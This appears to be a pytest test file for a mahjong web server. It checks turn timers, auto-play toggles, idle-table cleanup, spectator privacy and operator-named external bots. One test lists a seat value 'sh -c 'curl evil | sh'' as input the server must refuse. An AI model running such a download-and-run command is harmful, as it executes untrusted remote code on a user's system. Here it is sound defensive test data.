"""The table driver's rules for people: toggles, the timer, and the serve command; what a
table promises: errors told and not fatal, nothing shown before stored, idle tables let
go, external bots only by the operator's names."""

from __future__ import annotations

import asyncio
import logging
import shlex
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient
from webhelp import BASE, choose, efficiency_script, next_prompt, open_seat

from jantaku.agents import Agent
from jantaku.cli import SUBCOMMANDS, build_parser
from jantaku.cli.serve import is_loopback
from jantaku.errors import JantakuError
from jantaku.events import Chi, Dahai, Hora, Pass, Pon, Reach, event_to_mjai
from jantaku.web.app import create_app
from jantaku.web.protocol import Act, ProtocolError
from jantaku.web.store import WebStore
from jantaku.web.tables import (
    RESULT_WAIT,
    SeatPrefs,
    Setup,
    Table,
    Tables,
    _automatic,
    default_action,
)


def test_the_toggles_answer_only_what_they_say() -> None:
    ron, pon, chi = Hora(actor=0, target=3, pai=5), Pon(0, 3, 5, (5, 5)), Chi(0, 3, 5, (3, 4))
    skip = Pass(0)
    off = SeatPrefs()
    assert _automatic([skip, ron], off) is None
    assert _automatic([skip, ron], SeatPrefs(auto_win=True)) == ron
    assert _automatic([skip, pon, chi], SeatPrefs(no_call=True)) == skip
    assert _automatic([skip, pon, ron], SeatPrefs(no_call=True)) is None  # the ron is asked
    assert _automatic([skip, pon, ron], SeatPrefs(auto_pass=True)) is None
    assert _automatic([skip, pon], SeatPrefs(auto_pass=True)) == skip
    own = [Dahai(0, 5, False), Dahai(0, 7, True), Reach(0)]
    assert _automatic(own, SeatPrefs(auto_pass=True, no_call=True)) is None  # own turn: asked
    assert _automatic([Dahai(0, 7, True)], off) == Dahai(0, 7, True)  # forced after riichi


def test_the_timers_default_is_a_pass_or_the_drawn_tile() -> None:
    assert default_action([Pon(0, 3, 5, (5, 5)), Pass(0)]) == Pass(0)
    assert default_action([Dahai(0, 5, False), Dahai(0, 9, True)]) == Dahai(0, 9, True)
    assert default_action([Dahai(0, 5, False), Dahai(0, 6, False)]) == Dahai(0, 6, False)


def test_a_seat_that_does_not_answer_in_time_plays_the_default() -> None:
    app = create_app(":memory:")
    with TestClient(app, base_url=BASE) as client:
        m = client.post(
            "/api/matches", json={"preset": "tenhou", "seed": 5, "timer": 1, "length": "east_only"}
        ).json()
        with open_seat(client, m["id"], m["links"][0]["token"]) as ws:
            msg = next_prompt(ws)
            assert msg["deadline"] is not None and 0 < msg["deadline"] <= 1
            pick = default_action_json(msg["legal"])
            later = next_prompt(ws)  # nobody answers: the timer does
            assert later["decision"] > msg["decision"]
            table = app.state.tables.get(m["id"])
            events = [e for e in table.ref.log if isinstance(e, Dahai) and e.actor == 0]
            assert events and events[0].tsumogiri == pick["tsumogiri"]


def default_action_json(legal: list[dict[str, Any]]) -> dict[str, Any]:
    skip = [a for a in legal if a["kind"] == "skip"]
    return skip[0] if skip else next(a for a in legal if a["kind"] == "dahai" and a["tsumogiri"])


def test_auto_pass_and_auto_win_leave_only_own_turns_to_decide() -> None:
    app = create_app(":memory:")
    with TestClient(app, base_url=BASE) as client:
        m = client.post(
            "/api/matches", json={"preset": "tenhou", "seed": 364, "length": "east_only"}
        ).json()
        with open_seat(client, m["id"], m["links"][0]["token"]) as ws:
            ws.receive_json()
            ws.send_json({"type": "settings", "auto_pass": True, "auto_win": True})
            msg = ws.receive_json()
            while not msg["prefs"]["auto_pass"]:
                msg = ws.receive_json()
            stored = app.state.store.match(m["id"]).settings["prefs0"]
            assert stored["auto_pass"] and stored["auto_win"] and not stored["no_call"]
            if not msg["legal"]:
                msg = next_prompt(ws)
            # the person plays as the efficiency bot, answering with mjai actions; the
            # toggles answer every pass and every win, so only the rest is asked
            script, log = efficiency_script(364)
            asked = []
            for action, _ in script:
                if isinstance(action, Chi | Pon):  # auto-pass declines calls: stop here
                    break
                if not isinstance(action, Pass | Hora):
                    asked.append(action)
            assert len(asked) >= 5
            for action in asked:
                kinds = {a["kind"] for a in msg["legal"]}
                assert "skip" not in kinds and not kinds & {"tsumo", "ron"}
                ws.send_json(
                    {"type": "act", "decision": msg["decision"], "action": event_to_mjai(action)}
                )
                msg = next_prompt(ws)
        stored = app.state.store.events(m["id"])
        call = next(i for i, e in enumerate(log) if isinstance(e, Chi | Pon) and e.actor == 0)
        assert stored[:call] == log[:call]  # the same match up to the call declined for us
        assert not isinstance(stored[call], Chi | Pon)
        assert any(isinstance(e, Hora) and e.actor == 0 for e in stored[:call])  # taken for us


def test_serve_is_a_subcommand() -> None:
    assert "jantaku.cli.serve" in SUBCOMMANDS
    args = build_parser().parse_args(["serve", "--port", "8123", "--open"])
    assert (args.host, args.port, args.open, args.db) == ("127.0.0.1", 8123, True, None)
    assert is_loopback("::1") and not is_loopback("192.168.1.5") and not is_loopback("example")


def test_serve_refuses_a_bad_port(capsys: pytest.CaptureFixture[str]) -> None:
    from jantaku.cli import main

    assert main(["serve", "--port", "70000"]) == 2
    assert "port 70000" in capsys.readouterr().err


class _Broken(Agent):
    """A bot that fails on its first decision."""

    def act(self, view: Any, legal: Any) -> Any:
        raise RuntimeError("out of order")


class _Inbox:
    def __init__(self) -> None:
        self.messages: list[dict[str, Any]] = []

    async def send_json(self, data: Any) -> None:
        self.messages.append(data)


def test_a_failing_bot_stops_the_match_with_an_error_and_nothing_lost() -> None:
    async def scenario() -> tuple[list[dict[str, Any]], Any, str]:
        store = WebStore(":memory:")
        tables = Tables(store)
        record = tables.create(Setup(seed=1, seats=("efficiency", "human", "human", "human")))
        table = Table(record, store, agents={0: _Broken()})
        inbox = _Inbox()
        await table.join(1, inbox)
        table.start()
        assert table.task is not None
        await table.task
        with pytest.raises(ProtocolError) as refused:
            table.act(1, Act(decision=0, index=0))
        stored = store.match(record.id)
        return inbox.messages, stored, refused.value.code

    messages, stored, code = asyncio.run(scenario())
    assert messages[-1]["type"] == "error" and messages[-1]["code"] == "failed"
    assert "seat 0" in messages[-1]["message"]
    assert stored.status == "failed" and code == "over"


def test_a_paced_table_shows_each_bot_move_and_plays_the_same_match() -> None:
    app = create_app(":memory:")
    with TestClient(app, base_url=BASE) as client:
        ids = []
        for pace in (0, 20):
            m = client.post(
                "/api/matches",
                json={"preset": "tenhou", "seed": 5, "length": "east_only", "pace": pace},
            ).json()
            ids.append(m["id"])
            msgs: list[dict[str, Any]] = []
            with open_seat(client, m["id"], m["links"][0]["token"]) as ws:
                msg = next_prompt(ws, collect=msgs)
                for _ in range(4):
                    ws.send_json(
                        {"type": "act", "decision": msg["decision"], "index": _first_dahai(msg)}
                    )
                    msg = next_prompt(ws, collect=msgs)
            shown = [m for m in msgs if not m["legal"]]
            if pace:  # every bot discard came in a state of its own
                assert len(shown) >= 3 * 4
                assert all(sum(e["type"] == "dahai" for e in m["events"]) <= 1 for m in shown[1:])
        a, b = (app.state.store.events(i) for i in ids)
        n = min(len(a), len(b))
        assert n > 20 and a[:n] == b[:n]
        bad = client.post("/api/matches", json={"preset": "tenhou", "pace": 99999})
        assert bad.status_code == 400


def _first_dahai(msg: dict[str, Any]) -> int:
    legal = msg["legal"]
    skip = [a for a in legal if a["kind"] == "skip"]
    if skip:
        return int(skip[0]["index"])
    return int(next(a for a in legal if a["kind"] == "dahai" and a["tsumogiri"])["index"])


# --- errors reach the person; only a failed send drops a connection -----------------------


async def _until(ready: Callable[[], bool], what: str, seconds: float = 60.0) -> None:
    """Wait (polling) until ``ready()``; a generous deadline, not a measure of speed."""
    deadline = time.monotonic() + seconds
    while not ready():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.005)


def _prompts(inbox: _Inbox, after: int) -> list[dict[str, Any]]:
    return [
        m for m in inbox.messages if m["type"] == "state" and m["legal"] and m["decision"] > after
    ]


async def _prompt_after(inbox: _Inbox, decision: int) -> dict[str, Any]:
    """The first prompt of a decision after ``decision``."""
    await _until(lambda: bool(_prompts(inbox, decision)), f"a prompt after {decision}")
    return _prompts(inbox, decision)[0]


async def _play(table: Table, inbox: _Inbox, prompts: int, seat: int = 0) -> int:
    """Answer ``prompts`` prompts of ``seat`` by a fixed policy; the last decision answered."""
    decision = -1
    for _ in range(prompts):
        msg = await _prompt_after(inbox, decision)
        table.act(seat, Act(decision=msg["decision"], index=choose(msg["legal"])["index"]))
        decision = msg["decision"]
    return decision


def test_a_failing_aid_is_left_out_and_told_once_while_the_seat_plays_on(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(view: Any, rules: Any = None) -> Any:
        raise ValueError("5 copies of 4z")

    monkeypatch.setattr("jantaku.web.tables.aids_json", broken)

    async def scenario() -> tuple[_Inbox, _Inbox, bool]:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=None)
        record = tables.create(Setup(seed=5, length="east_only"))
        table = tables.get(record.id)
        assert table is not None
        inbox = _Inbox()
        client = await table.join(0, inbox)  # the first state already needs the aids
        last = await _play(table, inbox, 4)
        await _prompt_after(inbox, last)
        stays = client in table.seats[0].clients
        again = _Inbox()  # a reload joins as well
        await table.join(0, again)
        await tables.close()
        return inbox, again, stays

    with caplog.at_level(logging.ERROR, logger="jantaku.web"):
        inbox, again, stays = asyncio.run(scenario())
    assert stays  # the connection was kept
    states = [m for m in inbox.messages if m["type"] == "state"]
    assert len(_prompts(inbox, -1)) >= 5
    for msg in states:  # the rest of the state is all there
        assert msg["aids"] is None and "5 copies of 4z" in msg["aids_error"]
        assert msg["view"] is not None and msg["view"]["hand"]
    errors = [m for m in inbox.messages if m["type"] == "error"]
    assert len(errors) == 1 and errors[0]["code"] == "internal"  # told once, not every state
    assert "aids" in errors[0]["message"] and "5 copies of 4z" in errors[0]["message"]
    assert [m["type"] for m in again.messages] == ["state", "error"]
    assert again.messages[0]["aids"] is None and again.messages[0]["view"]["hand"]
    assert again.messages[1]["code"] == "internal"
    logged = [r for r in caplog.records if "aids could not be computed" in r.getMessage()]
    assert len(logged) == 1 and logged[0].exc_info is not None  # once, with its traceback


def test_the_aids_when_they_work_come_with_no_error() -> None:
    async def scenario() -> list[dict[str, Any]]:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=None)
        table = tables.get(tables.create(Setup(seed=5, length="east_only")).id)
        assert table is not None
        inbox = _Inbox()
        await table.join(0, inbox)
        await _prompt_after(inbox, -1)
        await tables.close()
        return inbox.messages

    messages = asyncio.run(scenario())
    assert all(m["type"] == "state" for m in messages)
    assert messages[-1]["aids"] is not None and messages[-1]["aids_error"] is None


class _Closed:
    """A connection that was closed under the table."""

    async def send_json(self, data: Any) -> None:
        raise ConnectionResetError("gone")


def test_only_a_failed_send_drops_a_connection() -> None:
    async def scenario() -> tuple[int, int]:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=None)
        table = tables.get(tables.create(Setup(seed=5, length="east_only")).id)
        assert table is not None
        await table.join(0, _Closed())  # dropped at once, nothing raised
        inbox = _Inbox()
        await table.join(0, inbox)
        await _play(table, inbox, 2)
        counts = len(table.seats[0].clients), sum(m["type"] == "error" for m in inbox.messages)
        await tables.close()
        return counts

    assert asyncio.run(scenario()) == (1, 0)


# --- nothing is shown before it is stored --------------------------------------------------


class _Auditor(_Inbox):
    """A connection that checks, at every state it is sent, that the store already holds
    every decision and event the table has played."""

    def __init__(self, store: WebStore) -> None:
        super().__init__()
        self.store = store
        self.table: Table | None = None
        self.unstored: list[str] = []

    async def send_json(self, data: Any) -> None:
        table = self.table
        assert table is not None
        if data["type"] == "state":
            decisions = len(self.store.decisions(table.record.id))
            events = self.store.count_events(table.record.id)
            if decisions < table.decision or events < len(table.ref.log):
                self.unstored.append(
                    f"decision {data['decision']}: stored {decisions} decisions of "
                    f"{table.decision}, {events} events of {len(table.ref.log)}"
                )
        self.messages.append(data)


def test_every_state_sent_is_stored_first() -> None:
    async def scenario() -> _Auditor:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=None)
        # paced bots: each bot move is shown on its own (a path of its own to the seat)
        table = tables.get(tables.create(Setup(seed=5, length="east_only", pace=1)).id)
        assert table is not None
        auditor = _Auditor(store)
        auditor.table = table
        await table.join(0, auditor)
        await _play(table, auditor, 8)
        await tables.close()
        return auditor

    auditor = asyncio.run(scenario())
    shown = [m for m in auditor.messages if m["type"] == "state" and not m["legal"]]
    assert len(shown) >= 8  # the bots' paced moves were sent too (and audited)
    assert auditor.unstored == []


# --- tables nobody is at stop and leave memory ------------------------------------------------


def test_a_table_nobody_is_at_stops_leaves_memory_and_resumes_from_the_store() -> None:
    async def scenario() -> None:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=0.05)
        record = tables.create(Setup(seed=8, length="east_only"))
        table = tables.get(record.id)
        assert table is not None
        inbox = _Inbox()
        client = await table.join(0, inbox)
        last = await _play(table, inbox, 3)
        pending = await _prompt_after(inbox, last)
        table.leave(0, client)
        await _until(lambda: record.id not in tables.live, "the idle table to be let go")
        await _until(lambda: table.task is not None and table.task.done(), "its loop to end")
        assert table.halted and table.task is not None and table.task.cancelled()
        stored = store.match(record.id)
        assert stored is not None and stored.status == "playing"
        assert len(store.decisions(record.id)) == table.decision == pending["decision"]
        assert store.count_events(record.id) == len(table.ref.log)
        # the next visit loads it from the store, at the very decision it waited for
        again = tables.get(record.id)
        assert again is not None and again is not table
        inbox2 = _Inbox()
        await again.join(0, inbox2)
        resumed = await _prompt_after(inbox2, -1)
        assert resumed["decision"] == pending["decision"]
        assert resumed["legal"] == pending["legal"]
        assert resumed["view"]["hand"] == pending["view"]["hand"]
        await tables.close()

    asyncio.run(scenario())


def test_a_table_no_one_joins_or_one_left_on_a_timer_stops_too() -> None:
    async def scenario() -> None:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=0.05)
        never = tables.create(Setup(seed=3, length="east_only"))
        assert tables.get(never.id) is not None
        await _until(lambda: never.id not in tables.live, "a table nobody joined to go")
        # a person who leaves while the table's timer waits on them: the timer would play
        # for them (every 30 s, for hours); the table stops instead
        timed = tables.create(Setup(seed=4, length="east_only", timer=30))
        table = tables.get(timed.id)
        assert table is not None
        inbox = _Inbox()
        client = await table.join(0, inbox)
        msg = await _prompt_after(inbox, -1)
        assert msg["deadline"] is not None
        table.leave(0, client)
        await _until(lambda: timed.id not in tables.live, "the timed table to go")
        assert table.task is not None
        await _until(table.task.done, "its loop to end")
        assert len(store.decisions(timed.id)) == msg["decision"]  # nothing played for them
        await tables.close()

    asyncio.run(scenario())


def test_coming_back_in_time_keeps_the_table() -> None:
    async def scenario() -> None:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=0.05)
        record = tables.create(Setup(seed=8, length="east_only"))
        table = tables.get(record.id)
        assert table is not None
        inbox = _Inbox()
        client = await table.join(0, inbox)
        await _prompt_after(inbox, -1)
        table.leave(0, client)
        await table.join(0, _Inbox())  # a reload: the idle clock stops
        await asyncio.sleep(0.3)  # well past the idle time, which no longer runs
        assert tables.live.get(record.id) is table and not table.halted
        assert table.task is not None and not table.task.done()
        await tables.close()

    asyncio.run(scenario())


def test_idle_seconds_is_positive() -> None:
    with pytest.raises(JantakuError, match="idle_seconds"):
        Tables(WebStore(":memory:"), idle_seconds=0)


# --- external bots are the operator's, by name ---------------------------------------------

PEER = r"""
import json, sys
seat = None
for line in sys.stdin:
    events = json.loads(line)
    for e in events:
        if e["type"] == "start_game":
            seat = e["id"]
    last = events[-1] if events else {}
    if last.get("type") == "tsumo" and last.get("actor") == seat:
        print(json.dumps({"type": "dahai", "actor": seat, "pai": last["pai"],
                          "tsumogiri": True}), flush=True)
    else:
        print(json.dumps({"type": "none"}), flush=True)
"""


def test_a_seat_names_an_operators_bot_and_never_a_command(tmp_path: Path) -> None:
    script = tmp_path / "peer.py"
    script.write_text(PEER)
    command = f"{shlex.quote(sys.executable)} {shlex.quote(str(script))}"
    seats = ("human", "mjai:peer", "efficiency", "efficiency")

    async def scenario() -> tuple[str, list[Any], list[dict[str, Any]], str]:
        store = WebStore(tmp_path / "s.sqlite3")
        tables = Tables(store, mjai_bots={"peer": command}, idle_seconds=None)
        record = tables.create(Setup(seed=5, length="east_only", seats=seats))
        table = tables.get(record.id)
        assert table is not None and table.failed is None
        inbox = _Inbox()
        await table.join(0, inbox)
        await _play(table, inbox, 4)
        await tables.close()
        dump = "\n".join(store.conn.iterdump())
        # the same store on a server that no longer offers "peer": the match cannot be
        # played here, says so, and stays playable where the bot is offered
        elsewhere = Tables(store, idle_seconds=None)
        stranded = elsewhere.get(record.id)
        assert stranded is not None and stranded.failed is not None
        told = _Inbox()
        await stranded.join(0, told)
        status = store.match(record.id).status  # type: ignore[union-attr]
        await elsewhere.close()
        return dump, store.events(record.id), told.messages, status

    dump, events, told, status = asyncio.run(scenario())
    assert str(script) not in dump and "mjai:peer" in dump  # the name is stored, no command
    assert any(isinstance(e, Dahai) and e.actor == 1 for e in events)  # the bot played
    assert [m["type"] for m in told] == ["state", "error"]
    assert told[1]["code"] == "failed" and "no mjai bot named 'peer'" in told[1]["message"]
    assert status == "playing"


def test_a_bot_the_server_does_not_offer_is_refused() -> None:
    store = WebStore(":memory:")
    offered = Tables(store, mjai_bots={"peer": "python3 peer.py", "mortal": "mortal --x"})
    assert offered.mjai_names == ["mortal", "peer"]
    for kind in ("mjai:python bot.py", "mjai:sh -c 'curl evil | sh'", "mjai:"):
        with pytest.raises(ProtocolError) as refused:
            offered.create(Setup(seats=("human", kind, "efficiency", "efficiency")))
        assert refused.value.code == "malformed"
        assert "this server offers: mortal, peer" in refused.value.message
    with pytest.raises(ProtocolError, match="this server offers: none"):
        Tables(store).create(Setup(seats=("human", "mjai:peer", "efficiency", "efficiency")))
    record = offered.create(Setup(seats=("human", "mjai:peer", "efficiency", "efficiency")))
    assert record.seats[1] == "mjai:peer" and record.names[1] == "peer1"
    for bots in ({"two words": "x"}, {"": "x"}, {"ok": ""}, {"ok": "'unclosed"}):
        with pytest.raises(JantakuError):
            Tables(store, mjai_bots=bots)


# --- the result pause: no decision runs while a person reads a hand's result --------------


def test_the_table_waits_for_a_person_to_close_the_result() -> None:
    async def scenario() -> tuple[list[dict[str, Any]], Table]:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=None)
        record = tables.create(Setup(seed=364, length="east_only", timer=1))
        table = tables.get(record.id)
        assert table is not None
        inbox = _Inbox()
        await table.join(0, inbox)
        table.set_prefs(0, {"pause": True})
        decision = -1

        def shown() -> bool:
            return any(m.get("results") for m in inbox.messages)

        while not shown():
            await _until(lambda d=decision: shown() or bool(_prompts(inbox, d)), "a prompt")
            if shown():
                break
            msg = _prompts(inbox, decision)[0]
            table.act(0, Act(decision=msg["decision"], index=choose(msg["legal"])["index"]))
            decision = msg["decision"]
        # longer than the timer: nothing is decided while the result is open
        await asyncio.sleep(1.5)
        assert table.pause is not None and table.pause.waiting == {0} and not table.asks
        assert not _prompts(inbox, decision)
        table.ready(0)
        await _prompt_after(inbox, decision)
        await tables.close()
        return inbox.messages, table

    messages, table = asyncio.run(scenario())
    shown = next(m for m in messages if m.get("results"))
    assert shown["pause"] == {"waiting": [0], "deadline": None} and shown["legal"] == []
    result = shown["results"][0]
    start, riichi = result["start_scores"], result["riichi"]
    assert [a + b + c for a, b, c in zip(start, riichi, result["deltas"], strict=True)] == (
        result["scores"]
    )
    assert table.pause is None


def test_once_one_person_closed_the_result_the_others_get_a_countdown() -> None:
    async def scenario() -> tuple[_Inbox, _Inbox, float]:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=None)
        record = tables.create(Setup(seats=("human", "efficiency", "human", "efficiency")))
        table = Table(record, store)
        first, second = _Inbox(), _Inbox()
        await table.join(0, first)
        await table.join(2, second)
        for seat in (0, 2):
            table.set_prefs(seat, {"pause": True})
        waiting = asyncio.get_running_loop().create_task(table._result_pause())
        await _until(lambda: table.pause is not None and bool(second.messages), "the pause")
        assert table.pause is not None and table.pause.waiting == {0, 2}
        table.ready(2)
        table.ready(2)  # twice changes nothing
        await _until(lambda: second.messages[-1]["pause"]["waiting"] == [0], "the countdown")
        left = second.messages[-1]["pause"]["deadline"]
        table.ready(0)
        await waiting
        return first, second, left

    first, _, left = asyncio.run(scenario())
    assert 0 < left <= RESULT_WAIT and RESULT_WAIT >= 30
    assert first.messages[-1]["pause"]["waiting"] == [0]


def test_two_people_at_a_table_are_never_both_you() -> None:
    tables = Tables(WebStore(":memory:"))
    two = tables.create(Setup(seats=("human", "efficiency", "human", "efficiency")))
    assert two.names == ("player1", "efficiency1", "player3", "efficiency3")
    named = tables.create(Setup(names=("  Alice \n Liddell ", "", "", "")))
    assert named.names == ("Alice Liddell", "efficiency1", "efficiency2", "efficiency3")
    alone = tables.create(Setup())
    assert alone.names[0] == "you"


def test_the_time_bank_is_spent_past_the_timer_and_refilled_each_hand() -> None:
    async def scenario() -> list[dict[str, Any]]:
        store = WebStore(":memory:")
        tables = Tables(store, idle_seconds=None)
        record = tables.create(Setup(seed=5, length="east_only", timer=1, bank=2))
        table = tables.get(record.id)
        assert table is not None
        inbox = _Inbox()
        await table.join(0, inbox)
        first = await _prompt_after(inbox, -1)  # nobody answers: timer, then bank, run out
        await _prompt_after(inbox, first["decision"])
        await tables.close()
        return _prompts(inbox, -1)

    first, second = asyncio.run(scenario())[:2]
    assert first["timer"] == 1 and first["bank"] == 2
    assert 1 < first["deadline"] <= 3  # the timer's second and the bank's two
    assert second["bank"] == 0 and second["deadline"] <= 1  # the bank was spent
    with pytest.raises(ProtocolError):
        Tables(WebStore(":memory:")).create(Setup(timer=5, bank=-1))


def test_a_spectator_sees_the_table_and_never_a_concealed_tile() -> None:
    app = create_app(":memory:")
    with TestClient(app, base_url=BASE) as client:
        m = client.post(
            "/api/matches", json={"preset": "tenhou", "seed": 5, "timer": 0, "length": "east_only"}
        ).json()
        watch = m["spectator"]
        assert watch["url"] == f"/table/{m['id']}#watch={watch['token']}"
        assert watch["token"] not in {link["token"] for link in m["links"]}
        assert app.state.store.seat_of_token(m["id"], watch["token"]) == -1
        with (
            open_seat(client, m["id"], m["links"][0]["token"]) as seat,
            open_seat(client, m["id"], watch["token"]) as spectator,
        ):
            first = spectator.receive_json()
            assert first["spectator"] is True and first["legal"] == []
            spectator.send_json({"type": "act", "decision": first["decision"], "index": 0})
            assert spectator.receive_json()["code"] == "forbidden"  # it watches, never plays
            decision = -1
            own_hand_seen = False
            while decision < 24:
                msg = next_prompt(seat)
                own_hand_seen |= bool(msg["view"]["hand"])
                decision = msg["decision"]
                seat.send_json(
                    {"type": "act", "decision": decision, "index": choose(msg["legal"])["index"]}
                )
            assert own_hand_seen
            seen: list[dict[str, Any]] = [first]
            while seen[-1]["decision"] < decision:
                msg = spectator.receive_json()
                if msg["type"] == "state":
                    seen.append(msg)
            discards = 0
            for msg in seen:
                view = msg["view"]
                assert view["hand"] == [] and view["drawn"] is None
                assert msg["aids"] is None and msg["legal"] == []
                assert all(r["review"] == [] for r in msg["results"])
                for e in msg["events"]:
                    if e["type"] == "tsumo":
                        assert e["pai"] == "?"
                    if e["type"] == "start_kyoku":
                        assert {t for hand in e["tehais"] for t in hand} == {"?"}
                    discards += e["type"] == "dahai"
            assert discards >= 24  # the table's play, as it goes
